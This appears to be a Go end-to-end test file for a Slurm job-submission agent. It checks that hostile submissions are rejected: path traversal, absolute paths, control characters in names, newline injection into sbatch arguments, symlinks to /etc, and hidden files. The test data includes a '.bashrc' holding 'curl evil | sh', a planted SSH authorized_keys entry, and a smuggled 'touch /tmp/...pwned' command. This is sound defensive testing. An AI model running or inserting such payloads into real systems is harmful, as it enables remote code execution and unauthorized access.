package submit

import (
	"bytes"
	"context"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/omnivector-solutions/jobbergate-agent-go/internal/testenv"
	"github.com/omnivector-solutions/jobbergate-agent-go/jobbergate"
	"github.com/omnivector-solutions/jobbergate-agent-go/jobbergate/jobbergatetest"
)

// hostileMapper adds a system account (daemon, uid 1) to the end-to-end users.
var hostileMapper = mapMapper{
	"alice@example.com": "alice", "bob@example.com": "bob",
	"root@example.com": "root", "daemon@example.com": "daemon",
}

// countingWriter counts the body bytes a handler got into the connection.
type countingWriter struct {
	http.ResponseWriter
	n *atomic.Int64
}

func (w countingWriter) Write(p []byte) (int, error) {
	n, err := w.ResponseWriter.Write(p)
	w.n.Add(int64(n))
	return n, err
}

// hostileEnv is the end-to-end environment with a handler whose API client goes through a
// front that counts the bytes served for some downloaded file names.
type hostileEnv struct {
	*e2e
	shared string                   // SharedExecutionDirs of the handler
	served map[string]*atomic.Int64 // file name -> body bytes the API got into the connection
	ended  atomic.Int64             // counted downloads whose handler returned
}

func newHostileEnv(t *testing.T, countFiles ...string) *hostileEnv {
	t.Helper()
	h := &hostileEnv{e2e: newE2E(t, nil), served: map[string]*atomic.Int64{}}
	for _, f := range countFiles {
		h.served[f] = &atomic.Int64{}
	}
	h.shared = h.tempDir(0, 0, 0o755)
	return h
}

// handler returns a submit handler with the default limits (MaxFileBytes 16 MiB, MinSubmitUID
// 1000) and h.shared as the only shared execution directory.
func (h *hostileEnv) handler() *Handler {
	t := h.t
	t.Helper()
	api := h.api.Handler()
	front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if c := h.served[filepath.Base(r.URL.Path)]; c != nil && strings.Contains(r.URL.Path, "/upload/") {
			defer h.ended.Add(1)
			w = countingWriter{ResponseWriter: w, n: c}
		}
		api.ServeHTTP(w, r)
	}))
	t.Cleanup(front.Close)
	tok := h.api.MintToken(jobbergatetest.TokenClaims{ClientID: clusterID, Permissions: jobbergatetest.AgentScopes,
		ExpiresAt: time.Now().Add(time.Hour)})
	client, err := jobbergate.New(jobbergate.Options{BaseURL: front.URL, Tokens: staticToken(tok), Timeout: 30 * time.Second,
		Retry: jobbergate.RetryPolicy{MaxAttempts: 2, InitialBackoff: 50 * time.Millisecond}, Logger: testenv.Logger(t)})
	if err != nil {
		t.Fatal(err)
	}
	hd, err := NewHandler(Options{
		API: client, Slurm: h.sl, Mapper: hostileMapper, Claims: claimsBucket(t, h.b, h.topo), JetStream: h.b.JS,
		DefaultWorkDir: filepath.Join(h.base, "{username}"), WriteSubmissionFiles: true,
		HolderID: "hostile/1", ClaimStaleAfter: 2 * h.topo.Limits.AckWait, Logger: testenv.Logger(t),
	})
	if err != nil {
		t.Fatal(err)
	}
	return hd
}

// files builds a job script: the first file is the entrypoint.
func files(pairs ...string) script {
	s := script{files: map[string]string{}}
	for i := 0; i+1 < len(pairs); i += 2 {
		s.files[pairs[i]] = pairs[i+1]
		s.order = append(s.order, pairs[i])
	}
	return s
}

// hostileCase is one submission with hostile data and what must come of it.
type hostileCase struct {
	name  string
	email string
	dir   *string
	args  []string
	sc    script
	// want is the start of the report message of a rejection; empty means SUBMITTED.
	want string
	// contains is more text the report message must hold.
	contains string
	// written are the files (absolute paths, with their exact content) a SUBMITTED case leaves.
	written map[string][]byte
}

// TestHostileSubmissions runs hostile submissions through the bridge, the SUBMIT stream and a
// runner against the development API and real Slurm. Each hostile case ends REJECTED with a
// message the submitter can act on and no Slurm job; the cases the agent deliberately accepts
// (a sub-path reduced to its base name, non-UTF-8 content passed through byte for byte,
// another user's directory under a shared execution directory) end SUBMITTED with exactly
// their files. Afterwards no file carrying the run's token exists anywhere it was not meant
// to be: not in /etc, /tmp, bob's or root's directories, nor as a rejected case's file in
// alice's.
func TestHostileSubmissions(t *testing.T) {
	const big = "big.bin"
	h := newHostileEnv(t, big)
	alice, bob := h.users["alice"], h.users["bob"]
	aliceDir := h.tempDir(alice.UID, alice.GID, 0o700)
	rootTmp := h.tempDir(0, 0, 0o777|os.ModeSticky) // a root-owned, world-writable place
	bobPublic := h.tempDir(bob.UID, bob.GID, 0o777) // bob's, world-writable
	bobShared := filepath.Join(h.shared, "bob-project")
	if err := os.Mkdir(bobShared, 0o777); err != nil {
		t.Fatal(err)
	}
	os.Chown(bobShared, int(bob.UID), int(bob.GID))
	os.Chmod(bobShared, 0o777)
	link := func(name, target string) *string {
		p := filepath.Join(aliceDir, name)
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
		os.Lchown(p, int(alice.UID), int(alice.GID))
		return &p
	}
	toEtc, toRootTmp, toBob := link("to-etc", "/etc"), link("to-root-tmp", rootTmp), link("to-bob", bobPublic)
	rel := "relative/dir"

	tok := fmt.Sprintf("jbg-hostile-%d", time.Now().UnixNano())
	n := func(i int, name string) string { return fmt.Sprintf("%s-%d-%s", tok, i, name) }
	latin1 := "#!/bin/sh\n# caf\xe9 cr\xe8me br\xfbl\xe9e\necho \xe9t\xe9 > /dev/null\n"
	binary := string([]byte{0x80, 0x81, 0xfe, 0xff, 0x00, '\n', 0xc3, 0x28})
	huge := strings.Repeat("x", 100<<20)
	fileMsg := "Error processing job-script files -- invalid file name: "
	hiddenMsg := "Error processing job-script files -- hidden file name: "
	ownRC := filepath.Join(aliceDir, ".bashrc")
	if err := os.WriteFile(ownRC, []byte("alice's own\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	os.Chown(ownRC, int(alice.UID), int(alice.GID))
	argMsg := "Invalid sbatch arguments -- sbatch argument would add lines to the job script: argument 3 "

	cases := []hostileCase{
		// File names.
		{name: "dot-dot", sc: files("../../../../tmp/"+n(0, "x.sh"), jobScript),
			want: fileMsg + `"../../../../tmp/` + n(0, "x.sh") + `" contains a '..' component`},
		{name: "absolute entrypoint", sc: files("/etc/"+n(1, "x.sh"), jobScript),
			want: fileMsg + `"/etc/` + n(1, "x.sh") + `" is an absolute path; file names must be relative`},
		{name: "absolute support", sc: files(n(2, "job.sh"), jobScript, "/tmp/"+n(2, "in.txt"), "x"),
			want: fileMsg + `"/tmp/` + n(2, "in.txt") + `" is an absolute path`},
		{name: "NUL in name", sc: files(n(3, "job\x00.sh"), jobScript), want: fileMsg, contains: `job\x00.sh" contains NUL`},
		{name: "newline in name", sc: files(n(4, "job\n.sh"), jobScript), want: fileMsg, contains: "control character '\\n'"},
		{name: "name over 255 bytes", sc: files(n(5, strings.Repeat("a", 260)+".sh"), jobScript),
			want: fileMsg, contains: "bytes long, more than 255"},
		{name: "colliding sub-paths", sc: files(n(6, "job.sh"), jobScript, "a/"+n(6, "in.txt"), "1", "b/"+n(6, "in.txt"), "2"),
			want: fileMsg, contains: `"a/` + n(6, "in.txt") + `" and "b/` + n(6, "in.txt") + `" would both be written as`},
		{name: "sub-path reduced to its base name", sc: files(n(7, "job.sh"), jobScript, "inputs/"+n(7, "data.txt"), "data\n"),
			written: map[string][]byte{filepath.Join(aliceDir, n(7, "data.txt")): []byte("data\n")}},

		// Content.
		{name: "non-UTF-8 content passes through", sc: files(n(8, "job.sh"), latin1, n(8, "blob.bin"), binary),
			written: map[string][]byte{filepath.Join(aliceDir, n(8, "blob.bin")): []byte(binary)}},
		{name: "100 MB file", sc: files(n(9, "job.sh"), jobScript, big, huge),
			want: `Error processing job-script files -- file "big.bin" is larger than 16 MiB, the largest file this cluster accepts (16777216 bytes)`},

		// sbatch arguments.
		{name: "newline in argument", args: append(slices.Clone(heldArgs), "--comment=x\ntouch /tmp/"+n(10, "pwned")),
			want: argMsg + `"--comment=x\ntouch /tmp/` + n(10, "pwned") + `" contains a newline (\n); each argument must be a single line`},
		{name: "CR in argument", args: append(slices.Clone(heldArgs), "--comment=x\rtouch /tmp/"+n(11, "pwned")),
			want: argMsg, contains: `a carriage return (\r)`},
		{name: "NUL in argument", args: append(slices.Clone(heldArgs), "--comment=x\x00y"), want: argMsg, contains: `a NUL byte`},
		{name: "line separator in argument", args: append(slices.Clone(heldArgs), "--comment=x\u2028y"), want: argMsg, contains: "U+2028"},

		// Execution directories.
		{name: "relative dir", dir: &rel,
			want: `Execution directory is invalid -- Execution directory must be an absolute path: "relative/dir"`},
		{name: "symlink to /etc", dir: toEtc,
			want: "Execution directory is invalid -- Execution directory does not exist or is not writable by the user: " + *toEtc + " (resolves to /etc)"},
		// Directories the user can write are accepted whoever owns them (as in the reference):
		// the files are written, and the job runs, as the user.
		{name: "symlink to a root-owned world-writable dir", dir: toRootTmp, written: map[string][]byte{}},
		{name: "bob's world-writable dir", dir: &bobPublic, written: map[string][]byte{}},
		{name: "symlink to bob's dir", dir: toBob, written: map[string][]byte{}},
		{name: "bob's dir under a shared dir", dir: &bobShared, sc: files(n(19, "job.sh"), jobScript),
			written: map[string][]byte{}},

		// Hidden names: a template's file would replace one the submitter's programs read.
		{name: "hidden support file", sc: files(n(20, "job.sh"), jobScript, ".bashrc", "curl evil | sh\n"),
			want: hiddenMsg, contains: `".bashrc": an element begins with a dot`},
		{name: "hidden directory element", sc: files(n(21, "job.sh"), jobScript, ".ssh/authorized_keys", "ssh-ed25519 AAAA evil\n"),
			want: hiddenMsg, contains: "ALLOW_HIDDEN_FILES"},

		// Text the submitter controls never makes a refused job look transient.
		{name: "partition named try again", args: append(slices.Clone(heldArgs), `--partition="try again"`),
			want: "Failed to submit job to slurm -- sbatch: error: invalid partition specified: try again"},

		// Owners.
		{name: "root", email: "root@example.com",
			want: `Execution directory is invalid -- user "root": refusing to run commands as root (uid 0)`},
		{name: "system account", email: "daemon@example.com",
			want: `Local user is not allowed to submit jobs -- refusing to submit as a system account: user "daemon" has uid 1, below the minimum uid 1000 for submissions`},
	}
	ids := make([]int, len(cases))
	for i := range cases {
		c := &cases[i]
		if c.email == "" {
			c.email = "alice@example.com"
		}
		if c.dir == nil {
			c.dir = &aliceDir
		}
		if c.args == nil {
			c.args = heldArgs
		}
		if c.sc.order == nil {
			c.sc = files(n(i, "job.sh"), jobScript)
		}
		ids[i], _ = h.add(c.email, c.dir, c.args, c.sc)
	}
	if st := h.poller.Cycle(context.Background()); st.Published != len(cases) {
		t.Fatalf("published %+v, want %d", st, len(cases))
	}
	h.run(h.handler(), 4)
	final := h.waitFinal(ids, 3*time.Minute)
	marked := h.markedJobs(ids)

	for i, c := range cases {
		s := final[ids[i]]
		msg := deref(s.ReportMessage)
		t.Logf("%s: %s %q", c.name, s.Status, msg)
		if c.written == nil {
			if s.Status != jobbergatetest.StatusRejected || !strings.HasPrefix(msg, c.want) || !strings.Contains(msg, c.contains) {
				t.Errorf("%s: status %s, report %q; want REJECTED starting %q and containing %q", c.name, s.Status, msg, c.want, c.contains)
			}
			if len(marked[ids[i]]) != 0 {
				t.Errorf("%s: rejected, yet slurm holds jobs %+v", c.name, marked[ids[i]])
			}
			continue
		}
		if s.Status != jobbergatetest.StatusSubmitted || len(marked[ids[i]]) != 1 {
			t.Errorf("%s: status %s, report %q, jobs %+v; want SUBMITTED with one job", c.name, s.Status, msg, marked[ids[i]])
			continue
		}
		for path, want := range c.written {
			got, err := os.ReadFile(path)
			if err != nil || !bytes.Equal(got, want) {
				t.Errorf("%s: %s holds %q (%v), want %q byte for byte", c.name, path, got, err, want)
			}
			if uid, _ := fileOwner(t, path); uid != alice.UID {
				t.Errorf("%s: %s owned by uid %d, want alice", c.name, path, uid)
			}
		}
	}

	if b, err := os.ReadFile(ownRC); err != nil || string(b) != "alice's own\n" {
		t.Errorf("alice's .bashrc now holds %q (%v)", b, err)
	}
	if _, err := os.Lstat(filepath.Join(aliceDir, "authorized_keys")); !os.IsNotExist(err) {
		t.Errorf("authorized_keys was written: %v", err)
	}

	// Accepted cases: the entrypoints, where they should be, with their bytes intact.
	entry8, err := os.ReadFile(filepath.Join(aliceDir, n(8, "job.sh")))
	if err != nil || !bytes.HasSuffix(entry8, []byte("echo \xe9t\xe9 > /dev/null\n")) || !bytes.Contains(entry8, []byte("caf\xe9 cr\xe8me")) {
		t.Errorf("Latin-1 entrypoint changed: %q, %v", entry8, err)
	}
	if _, err := os.Lstat(filepath.Join(aliceDir, "inputs")); !os.IsNotExist(err) {
		t.Errorf("a sub-path created a directory: %v", err)
	}
	if uid, _ := fileOwner(t, filepath.Join(bobShared, n(19, "job.sh"))); uid != alice.UID {
		t.Errorf("file in the shared directory owned by %d, want alice", uid)
	}
	if j := marked[ids[caseIndex(cases, "bob's dir under a shared dir")]]; len(j) == 1 {
		states, err := h.sl.JobStates(context.Background(), []int64{j[0].JobID})
		if err != nil || states[j[0].JobID].CurrentWorkingDirectory != bobShared || states[j[0].JobID].UserName != "alice" {
			t.Errorf("shared-dir job: %+v, %v", states[j[0].JobID], err)
		}
	}

	// The 100 MB download stopped near the limit instead of being read whole.
	testenv.Eventually(t, 30*time.Second, func() bool { return h.ended.Load() >= 1 }, "the big download's handler did not return")
	if sent := h.served[big].Load(); sent > 48<<20 {
		t.Errorf("the API got %d bytes of the 100 MB file into the connection; the agent must stop reading at 16 MiB", sent)
	} else {
		t.Logf("100 MB file: %d bytes left the API before the agent closed the connection", sent)
	}

	// Nothing carrying the token anywhere but the accepted cases' own files.
	expected := map[string]bool{
		filepath.Join(aliceDir, n(7, "job.sh")): true, filepath.Join(aliceDir, n(7, "data.txt")): true,
		filepath.Join(aliceDir, n(8, "job.sh")): true, filepath.Join(aliceDir, n(8, "blob.bin")): true,
		filepath.Join(bobShared, n(19, "job.sh")): true,
		// written before sbatch refused the job
		filepath.Join(aliceDir, n(caseIndex(cases, "partition named try again"), "job.sh")): true,
		// directories alice can write, whoever owns them
		filepath.Join(rootTmp, n(caseIndex(cases, "symlink to a root-owned world-writable dir"), "job.sh")): true,
		filepath.Join(bobPublic, n(caseIndex(cases, "bob's world-writable dir"), "job.sh")):                 true,
		filepath.Join(bobPublic, n(caseIndex(cases, "symlink to bob's dir"), "job.sh")):                     true,
	}
	for _, p := range tokenFiles(t, tok, aliceDir, rootTmp, bobPublic, h.shared, h.base) {
		if !expected[p] {
			t.Errorf("unexpected file %s", p)
		}
	}
	for _, top := range []string{"/etc", "/tmp", "/"} {
		entries, _ := os.ReadDir(top)
		for _, e := range entries {
			if strings.Contains(e.Name(), tok) {
				t.Errorf("file written outside the user's directory: %s", filepath.Join(top, e.Name()))
			}
		}
	}
}

// tokenFiles lists the files under roots (not following symlinks) whose name holds tok.
func tokenFiles(t *testing.T, tok string, roots ...string) []string {
	t.Helper()
	var out []string
	for _, r := range roots {
		err := filepath.WalkDir(r, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if strings.Contains(d.Name(), tok) && !slices.Contains(out, p) {
				out = append(out, p)
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return out
}

func caseIndex(cases []hostileCase, name string) int {
	for i, c := range cases {
		if c.name == name {
			return i
		}
	}
	panic("no case " + name)
}
